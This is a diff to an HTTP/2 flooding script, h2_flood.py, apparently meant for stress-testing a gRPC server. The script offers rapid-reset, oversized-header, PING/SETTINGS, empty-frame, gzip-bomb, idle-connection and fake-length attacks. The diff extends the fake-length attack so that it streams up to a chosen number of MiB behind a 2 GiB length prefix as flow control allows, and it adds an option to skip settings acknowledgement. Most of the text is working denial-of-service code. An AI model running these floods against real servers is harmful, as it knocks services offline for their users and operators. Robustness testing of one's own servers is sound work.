@@ -4,7 +4,7 @@
   h2_flood.py TARGET reset 10000      opens a call with its whole request and resets it, so many times
   h2_flood.py TARGET headers 20000    one call with so many bytes of metadata
   h2_flood.py TARGET ping 20000       so many PING frames;  settings: SETTINGS frames;  empty: empty DATA frames
-  h2_flood.py TARGET length           a message whose prefix says 2 GiB
+  h2_flood.py TARGET length 100       100 MiB of a message whose prefix says 2 GiB, as flow control lets them pass
   h2_flood.py TARGET compressed       a message of 64 MiB of zeros, sent as 64 kB of gzip
   h2_flood.py TARGET idle 1000        so many connections that say nothing, held until standard input closes
 
@@ -51,6 +51,11 @@ class Connection:
         self.ends = {}  # stream -> (http status, grpc status) or "reset"
         self.open = True
         self.flush()
+
+    def settle(self):
+        """Takes the server's settings and acknowledges them, as a client that is in no hurry does."""
+        self.take(1)
+        self.take(0.2)
 
     def headers(self, more=()):
         headers = [(":method", "POST"), (":scheme", "https" if self.args.ca else "http"), (":path", METHOD),
@@ -139,6 +144,8 @@ def reset(args):
 
 def headers(args):
     connection = Connection(args)
+    if not args.hasty:
+        connection.settle()
     stream = connection.h2.get_next_available_stream_id()
     filler = [(f"x-filler-{i}", "a" * 1000) for i in range(args.count // 1000)]
     connection.h2.send_headers(stream, connection.headers(filler))
@@ -180,11 +187,21 @@ def frames(args):
 
 def length(args):
     connection = Connection(args)
+    connection.settle()
     stream = connection.h2.get_next_available_stream_id()
     connection.h2.send_headers(stream, connection.headers())
-    connection.h2.send_data(stream, struct.pack(">BI", 0, 1 << 31) + b"x" * 100)
-    connection.flush()
-    return connection.finish(stream)
+    connection.h2.send_data(stream, struct.pack(">BI", 0, 1 << 31))
+    sent = 0
+    until = time.monotonic() + 10
+    while connection.open and stream not in connection.ends and sent < args.count << 20 and time.monotonic() < until:
+        room = min(16000, connection.h2.local_flow_control_window(stream))
+        if room > 0:
+            connection.h2.send_data(stream, b"x" * room)
+            sent += room
+            connection.flush()
+        connection.take(0.001 if room > 0 else 0.2)
+    end = connection.ends.get(stream, {})
+    return {"sent_mib": sent >> 20, **end}
 
 
 def compressed(args):
@@ -219,6 +236,7 @@ def main():
     parser.add_argument("target")
     parser.add_argument("what", choices=["reset", "headers", "ping", "settings", "empty", "length", "compressed", "idle"])
     parser.add_argument("count", type=int, nargs="?", default=1)
+    parser.add_argument("--hasty", action="store_true", help="headers: without acknowledging the server's settings")
     parser.add_argument("--ca")
     parser.add_argument("--key")
     parser.add_argument("--request", type=bytes.fromhex, default=b"", help="the message, in hex")
